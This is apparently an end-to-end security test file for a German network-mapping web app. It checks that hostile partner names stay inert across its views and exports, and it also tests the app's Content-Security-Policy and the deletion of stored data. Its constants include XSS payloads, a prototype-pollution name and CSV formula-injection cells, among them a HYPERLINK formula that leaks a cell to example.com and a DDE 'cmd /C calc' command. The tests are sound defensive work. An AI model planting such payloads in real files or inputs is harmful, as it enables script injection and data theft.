import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import Papa from 'papaparse';
import type { BrowserContext, Page } from 'playwright-core';
import readXlsxFile from 'read-excel-file/node';
import { strFromU8, unzipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { baseUrl, probeContentPolicy, useAppPage } from './browser';

const corpus = resolve(import.meta.dirname, '../fixtures/hostile');

/**
 * The hostile lists as a spreadsheet saves them: every attack kept, only the NUL bytes taken out.
 * With a NUL the app refuses the whole file as binary (its own test below), so nothing else of the
 * corpus would reach the views.
 */
function spreadsheetFile(name: string) {
  const bytes = readFileSync(resolve(corpus, name)).filter((byte) => byte !== 0);
  return { name, mimeType: 'text/csv', buffer: Buffer.from(bytes) };
}

const SCRIPT_NAME = '<script>alert(1)</script>';
const IMG_NAME = '<img src=x onerror=alert(1)>';
const SVG_NAME = "'/><svg onload=alert(1)>";
const BREAKOUT_NAME = '"/><script>alert(1)</script>';
const HOSTILE_PARTNERS = 24;
const HOSTILE_TIES = 32;

/** The text cells a spreadsheet would run as a formula, and what the export must make of them. */
const NEUTRALISED = [
  `'=HYPERLINK("http://example.com/?leak="&A1;"Klick")`,
  `'+cmd|' /C calc'!A0`,
  `'-2+3`,
  `'@SUM(A1)`,
  `'=1+1`,
];
const FORMULA_START = /^[=+\-@\t\r]/;
/** A number as the German CSV writes it ("-0,25"): Excel reads it as a number, never a formula. */
const PLAIN_NUMBER = /^-?\d+(,\d+)?(e-?\d+)?$/i;

let dialogs: string[];
/** Requests made once the app had loaded: with everything on board, only its own chunks. */
let laterRequests: string[];
let loaded: boolean;
let shippedScripts: number;

// Dialogs and requests are watched from the first byte on: a script run while loading counts too.
const app = useAppPage({
  beforeLoad: (opened) => {
    dialogs = [];
    opened.on('dialog', (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    loaded = false;
    laterRequests = [];
    opened.on('request', (request) => {
      if (loaded && !request.url().startsWith('blob:') && !request.url().startsWith('data:'))
        laterRequests.push(request.url());
    });
  },
});
let page: Page;
let context: BrowserContext;
let foreign: string[];
let errors: string[];

beforeEach(async () => {
  ({ page, context, foreign, errors } = app);
  await expect.poll(() => figure('partners')).toBe('45');
  await settled();
  loaded = true;
  shippedScripts = await page.evaluate(() => document.querySelectorAll('script').length);
});

// Runs before the frame's own checks (after-hooks run in reverse order).
afterEach(() => {
  expect(dialogs, 'alert, confirm or prompt').toEqual([]);
  const assets = new URL('assets/', baseUrl()).href;
  expect(
    laterRequests.filter((url) => !url.startsWith(assets)),
    'requests after the first load other than the app’s own chunks',
  ).toEqual([]);
});

const figure = (name: string) =>
  page.locator(`[data-analysis="done"] [data-figure="${name}"] dd`).textContent();
const view = (name: string) => page.getByRole('button', { name, exact: true }).click();

async function settled() {
  await page.getByRole('button', { name: 'Anordnung fortsetzen' }).waitFor({ timeout: 30_000 });
}

async function importHostileLists() {
  await page.getByRole('button', { name: 'Daten importieren' }).click();
  await page
    .getByLabel('Dateien auswählen')
    .setInputFiles([spreadsheetFile('partner.csv'), spreadsheetFile('kooperationen.csv')]);
  await page.getByRole('button', { name: 'Importieren', exact: true }).click();
  await page.getByRole('button', { name: 'Übernehmen' }).click();
  await expect.poll(() => figure('partners')).toBe(String(HOSTILE_PARTNERS));
  expect(await figure('cooperations')).toBe(String(HOSTILE_TIES));
}

/** What hostile text could have turned into, had it been read as markup or as keys. */
async function markupFromData() {
  return page.evaluate(() => {
    const handlers: string[] = [];
    for (const element of document.querySelectorAll('*'))
      for (const attribute of element.attributes)
        if (
          attribute.name.toLowerCase().startsWith('on') ||
          /^\s*javascript:/i.test(attribute.value)
        )
          handlers.push(`<${element.tagName.toLowerCase()} ${attribute.name}>`);
    return {
      scripts: document.querySelectorAll('script').length,
      handlers,
      injectedImages: document.querySelectorAll('img[src="x"], svg[onload]').length,
      polluted: [
        (window as unknown as Record<string, unknown>).polluted,
        ({} as Record<string, unknown>).polluted,
      ],
    };
  });
}

async function expectInert(where: string) {
  expect(await markupFromData(), where).toEqual({
    scripts: shippedScripts,
    handlers: [],
    injectedImages: 0,
    polluted: [undefined, undefined],
  });
}

async function download(button: string): Promise<{ name: string; bytes: Buffer }> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: button, exact: true }).click(),
  ]);
  return { name: file.suggestedFilename(), bytes: readFileSync(await file.path()) };
}

/** Every cell of a German-Excel CSV (BOM, `;`, CRLF). */
function csvCells(bytes: Buffer): string[][] {
  const text = bytes.toString('utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ';', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  // The last line ends with CRLF too, which reads as one empty row.
  const last = parsed.data.at(-1);
  return last?.length === 1 && last[0] === '' ? parsed.data.slice(0, -1) : parsed.data;
}

function formulaCells(cells: string[][]): string[] {
  return cells.flat().filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
}

/** Parses XML with the browser's own parser; answers parser errors and what a reader would see. */
async function readXml(text: string, type: 'application/xml' | 'image/svg+xml') {
  return page.evaluate(
    ([source, mime]) => {
      const document = new DOMParser().parseFromString(source, mime as DOMParserSupportedType);
      const all = [...document.getElementsByTagName('*')];
      return {
        parserErrors: document.getElementsByTagName('parsererror').length,
        scripts: document.getElementsByTagName('script').length,
        handlers: all.flatMap((e) =>
          [...e.attributes].map((a) => a.name).filter((name) => name.startsWith('on')),
        ),
        nodes: document.getElementsByTagName('node').length,
        text: document.documentElement.textContent ?? '',
        attributes: all.flatMap((e) => [...e.attributes].map((a) => a.value)),
      };
    },
    [text, type] as const,
  );
}

describe('hostile partner lists through the whole app', () => {
  it('every view shows the names as plain text and runs none of them', async () => {
    await importHostileLists();
    await settled();
    await expectInert('map');

    await view('Tabelle');
    const rows = page.locator('.partner-table tbody tr');
    await expect.poll(() => rows.count()).toBe(HOSTILE_PARTNERS);
    const table = (await page.locator('.partner-table').textContent()) ?? '';
    for (const name of [SCRIPT_NAME, IMG_NAME, SVG_NAME, BREAKOUT_NAME, '__proto__'])
      expect(table).toContain(name);
    await expectInert('table');

    await view('Analyse');
    await page.getByRole('heading', { name: 'Maße je Partner' }).waitFor();
    await expectInert('analysis');

    await view('Lücken');
    await page.getByRole('heading', { name: 'Was fehlt?' }).waitFor();
    await expectInert('gaps');

    await view('Doppelstrukturen');
    await expect.poll(() => page.locator('main').textContent()).toContain(SCRIPT_NAME);
    await expectInert('doubles');

    await view('Bericht & Export');
    await page.locator('.nwk-report').waitFor({ timeout: 30_000 });
    expect(await page.locator('.nwk-report').textContent()).toContain(SCRIPT_NAME);
    await expectInert('report');

    // Were a name ever to become a handler attribute, the check would see it, and the policy
    // would still refuse to run it (Chromium says so on the console).
    await page.evaluate(() => document.body.lastElementChild?.setAttribute('onclick', 'x()'));
    expect((await markupFromData()).handlers).toHaveLength(1);
    await page.evaluate(() => document.body.lastElementChild?.removeAttribute('onclick'));
    await expect.poll(() => errors.length).toBe(1);
    expect(errors.splice(0)).toEqual([
      expect.stringContaining('Executing inline event handler violates'),
    ]);
  });

  it('searching, hovering and clicking hostile partners opens their panel with the name as text', async () => {
    await importHostileLists();
    await settled();
    const panel = page.locator('.partner-panel');
    const map = page.locator('.map-canvas');
    for (const [query, name] of [
      ['onerror', IMG_NAME],
      ['svg onload', SVG_NAME],
      ['"/><script', BREAKOUT_NAME],
      ['__proto__', '__proto__'],
      ['fdp.exe', 'Hebamme \u202efdp.exe'],
    ] as const) {
      await page.getByLabel('Partner suchen').fill(query);
      await page.locator('.map-search-results').getByRole('button', { name, exact: true }).click();
      await expect.poll(() => panel.locator('h2').textContent()).toBe(name);
      await page.getByRole('button', { name: 'Schließen' }).click();
      await expect.poll(() => panel.count()).toBe(0);
      // The camera flies to the partner chosen: the middle of the map is where it now sits.
      await page.waitForTimeout(600);
      const box = await map.boundingBox();
      if (!box) throw new Error('map not visible');
      await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
      await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
      await expect.poll(() => panel.locator('h2').textContent()).toBe(name);
      await expectInert(`panel of ${JSON.stringify(name)}`);
      await page.getByRole('button', { name: 'Schließen' }).click();
    }
  });

  it('the map and table exports keep the names as data: CSV neutralised, SVG well-formed, images inert', async () => {
    await importHostileLists();
    await settled();

    const png = await download('Karte als PNG');
    expect(png.bytes.subarray(1, 4).toString()).toBe('PNG');
    const svg = await readXml(
      (await download('Karte als SVG')).bytes.toString('utf8'),
      'image/svg+xml',
    );
    expect(svg).toMatchObject({ parserErrors: 0, scripts: 0, handlers: [] });
    expect(svg.text).toContain(SCRIPT_NAME);

    await view('Bericht & Export');
    await page.locator('.nwk-report').waitFor({ timeout: 30_000 });

    const partners = csvCells((await download('Partnerliste (CSV)')).bytes);
    expect(partners).toHaveLength(HOSTILE_PARTNERS + 1);
    expect(formulaCells(partners)).toEqual([]);
    for (const cell of NEUTRALISED) expect(partners.flat()).toContain(cell);
    expect(partners.flat()).toContain(SCRIPT_NAME);
    for (const button of [
      'Kooperationsliste (CSV)',
      'Partner mit allen Maßen (CSV)',
      'Lücken (CSV)',
      'Doppelt erfasste Partner (CSV)',
    ])
      expect(formulaCells(csvCells((await download(button)).bytes)), button).toEqual([]);

    const workbook = (await download('Alle Tabellen (Excel, XLSX)')).bytes;
    expect(workbook.subarray(0, 2).toString()).toBe('PK');
    const sheets = await readXlsxFile(workbook);
    const sheetCells = sheets.flatMap((sheet) => sheet.data.flat());
    expect(sheetCells).toContain(SCRIPT_NAME);
    // In a workbook the formula-like names are text cells, as written: a spreadsheet evaluates
    // only a formula element, and the workbook has none.
    for (const cell of NEUTRALISED) expect(sheetCells).toContain(cell.slice(1));
    const parts = unzipSync(workbook);
    const sheetXml = Object.keys(parts).filter((name) => name.startsWith('xl/worksheets/'));
    expect(sheetXml.length).toBeGreaterThan(0);
    for (const name of sheetXml) expect(strFromU8(parts[name]!)).not.toMatch(/<f[\s>]/);
  });

  // A second page for the network files: one page that saves a dozen files in a row may have its
  // later downloads held back by Chromium's limit on repeated downloads.
  it('the network files (GEXF, GraphML, JSON) and the printed report keep the names as data', async () => {
    await importHostileLists();
    await settled();
    await view('Bericht & Export');
    await page.locator('.nwk-report').waitFor({ timeout: 30_000 });

    for (const button of ['Netzwerk für Gephi (GEXF)', 'Netzwerk als GraphML']) {
      const xml = await readXml((await download(button)).bytes.toString('utf8'), 'application/xml');
      expect(xml.parserErrors, button).toBe(0);
      expect(xml.nodes, button).toBe(HOSTILE_PARTNERS);
      expect([xml.text, ...xml.attributes].join('\n'), button).toContain(SCRIPT_NAME);
    }
    const json = JSON.parse((await download('Netzwerk als JSON')).bytes.toString('utf8')) as {
      partners: { name: string }[];
    };
    expect(json.partners.map((p) => p.name)).toContain(IMG_NAME);

    // The button asks the browser to print; a real print job in headless Chromium (156 on) keeps
    // the page "being printed" and page.pdf() then fails, so the request is recorded instead.
    await page.evaluate(() => {
      const recorded = window as unknown as { printRequests: number };
      recorded.printRequests = 0;
      window.print = () => {
        recorded.printRequests += 1;
      };
    });
    await page.getByRole('button', { name: 'Bericht drucken / als PDF speichern' }).click();
    expect(
      await page.evaluate(() => (window as unknown as { printRequests: number }).printRequests),
    ).toBe(1);
    await page.emulateMedia({ media: 'print' });
    const pdf = await page.pdf({ format: 'A4' });
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    await page.emulateMedia({ media: 'screen' });
    await expectInert('after the exports');
  });

  it('a list with a NUL byte is refused as a whole and the network on screen stays', async () => {
    await page.getByRole('button', { name: 'Daten importieren' }).click();
    await page
      .getByLabel('Dateien auswählen')
      .setInputFiles([resolve(corpus, 'partner.csv'), resolve(corpus, 'kooperationen.csv')]);
    await page.getByRole('button', { name: 'Importieren', exact: true }).click();
    await page.getByText('Der Import ist fehlgeschlagen').waitFor();
    await page.getByRole('button', { name: 'Schließen' }).click();
    expect(await figure('partners')).toBe('45');
    await expectInert('refused import');
  });
});

describe('the Content-Security-Policy', () => {
  it('refuses a request to another origin and an image from there, before the network', async () => {
    const reached: string[] = [];
    const failed = new Map<string, string>();
    page.on('requestfailed', (request) =>
      failed.set(request.url(), request.failure()?.errorText ?? ''),
    );
    await context.route(
      (url) => url.origin !== new URL(baseUrl()).origin,
      (route) => {
        reached.push(route.request().url());
        return route.abort();
      },
    );
    const outcome = await probeContentPolicy(page, { foreignImage: true });
    expect(outcome).toEqual({
      fetched: 'refused',
      shown: 'blocked',
      violations: ['connect-src https://example.org/', 'img-src https://example.org/x.png'],
    });
    expect(reached, 'requests that got past the policy').toEqual([]);
    // Chromium reports each refusal on the console; these three are the ones this test provoked.
    expect(errors.splice(0)).toEqual([
      expect.stringContaining(
        'violates the following Content Security Policy directive: "connect-src \'self\'"',
      ),
      expect.stringContaining('Refused to connect because it violates'),
      expect.stringContaining(
        'violates the following Content Security Policy directive: "img-src \'self\' data: blob:"',
      ),
    ]);
    // Playwright may report the image's attempt as a request; it failed inside the browser, for
    // the policy (Chromium's reason "csp").
    const attempts = [...new Set([...foreign.splice(0), ...laterRequests.splice(0)])];
    expect(attempts.map((url) => `${url} ${failed.get(url) ?? 'not refused'}`)).toEqual(
      attempts.map((url) => `${url} csp`),
    );
  });
});

describe('privacy in the browser', () => {
  /**
   * Everything the app keeps in IndexedDB, read through the browser's own API: the site's own
   * databases (only the directory of the places), the storage buckets, and the records of the
   * place the directory names.
   */
  async function stored() {
    return page.evaluate(async () => {
      interface Place {
        bucket: string | null;
        name: string;
      }
      const buckets = (
        navigator as unknown as {
          storageBuckets: {
            keys(): Promise<string[]>;
            open(name: string): Promise<{ indexedDB: IDBFactory }>;
          };
        }
      ).storageBuckets;
      const open = (factory: IDBFactory, name: string) =>
        new Promise<IDBDatabase>((done, fail) => {
          const request = factory.open(name);
          request.onsuccess = () => done(request.result);
          request.onerror = () => fail(request.error ?? new Error('open failed'));
        });
      const all = (db: IDBDatabase, store: string) =>
        new Promise<unknown[]>((done, fail) => {
          const request = db.transaction(store).objectStore(store).getAll();
          request.onsuccess = () => done(request.result);
          request.onerror = () => fail(request.error ?? new Error('read failed'));
        });
      const databases = (await indexedDB.databases()).map((d) => d.name ?? '');
      const directory = await open(indexedDB, 'netzwerkkarte-places');
      const entries = (await all(directory, 'places')) as { id: string; place?: Place }[];
      directory.close();
      const place = entries.find((entry) => entry.id === 'current')!.place!;
      const factory =
        place.bucket === null ? indexedDB : (await buckets.open(place.bucket)).indexedDB;
      const db = await open(factory, place.name);
      const networks = (await all(db, 'networks')) as { name: string }[];
      const projects = (await all(db, 'projects')) as { text: string }[];
      db.close();
      return {
        databases,
        buckets: (await buckets.keys()).sort(),
        names: networks.map((n) => n.name),
        text: projects.map((p) => p.text).join('\n'),
      };
    });
  }

  async function saved() {
    await expect
      .poll(() => page.locator('.save-status').getAttribute('data-save'), { timeout: 10_000 })
      .toBe('saved');
  }

  it('"Alle Daten in diesem Browser löschen" leaves nothing of the imported lists and returns to the sample', async () => {
    await importHostileLists();
    await saved();
    const before = await stored();
    // The lists are kept in a storage bucket of their own; the site's IndexedDB names it only.
    expect(before.databases).toEqual(['netzwerkkarte-places']);
    expect(before.buckets).toEqual(['netzwerkkarte-1']);
    expect(before.text).toContain('onerror=alert(1)');

    await page.getByRole('button', { name: 'Alle Daten in diesem Browser löschen' }).click();
    await page.getByRole('button', { name: 'Ja, alles löschen' }).click();
    await expect.poll(() => figure('partners')).toBe('45');
    await saved();
    const after = await stored();
    // The sample is stored again at once, as on a first visit, in a new bucket: the one the lists
    // were in is removed with its files.
    expect(after.databases).toEqual(['netzwerkkarte-places']);
    expect(after.buckets).toEqual(['netzwerkkarte-2']);
    expect(after.names).toEqual(['Beispielkreis (Beispieldaten)']);
    expect(after.text).not.toContain('onerror=alert(1)');
    expect(after.text).not.toContain('partner.csv');
    // A reload fetches the page itself again, which is no request of the running app.
    loaded = false;
    await page.reload();
    await expect.poll(() => figure('partners')).toBe('45');
  });
});

describe('privacy: saved column mappings', () => {
  async function chooseOwnColumns() {
    await page.getByRole('button', { name: 'Daten importieren' }).click();
    await page
      .getByLabel('Dateien auswählen')
      .setInputFiles(resolve(import.meta.dirname, '../fixtures/app-import/eigene-spalten.csv'));
    return page.getByRole('region', { name: 'eigene-spalten.csv' });
  }

  it('"Alle Daten in diesem Browser löschen" also removes the saved column mappings', async () => {
    let file = await chooseOwnColumns();
    await file.getByLabel('Art der Tabelle').selectOption('partners');
    await file.getByLabel('Angabe für die Spalte „Einrichtungsname“').selectOption('name');
    await file.getByLabel('Name für diese Zuordnung').fill('Liste Kreis Viersen');
    await file.getByRole('button', { name: 'Zuordnung speichern' }).click();
    await file.getByText('Zuordnung „Liste Kreis Viersen“ gespeichert').waitFor();
    await page.getByRole('button', { name: 'Abbrechen', exact: true }).click();
    // Kept with the networks (sealed with them under the password), not in localStorage.
    expect(await page.evaluate(() => ({ ...localStorage }))).toEqual({});
    const applied = 'Gespeicherte Zuordnung „Liste Kreis Viersen“ verwendet';
    file = await chooseOwnColumns();
    await file.getByText(applied).waitFor();
    await page.getByRole('button', { name: 'Abbrechen', exact: true }).click();

    await page.getByRole('button', { name: 'Alle Daten in diesem Browser löschen' }).click();
    await page.getByRole('button', { name: 'Ja, alles löschen' }).click();
    await page.getByText('gelöscht').first().waitFor();
    file = await chooseOwnColumns();
    // The preview is there, with the table's kind to choose; no saved mapping was applied to it.
    await file.getByLabel('Art der Tabelle').waitFor();
    expect(await file.getByText(applied).count()).toBe(0);
    await page.getByRole('button', { name: 'Abbrechen', exact: true }).click();
    expect(await page.evaluate(() => ({ ...localStorage }))).toEqual({});
  });
});
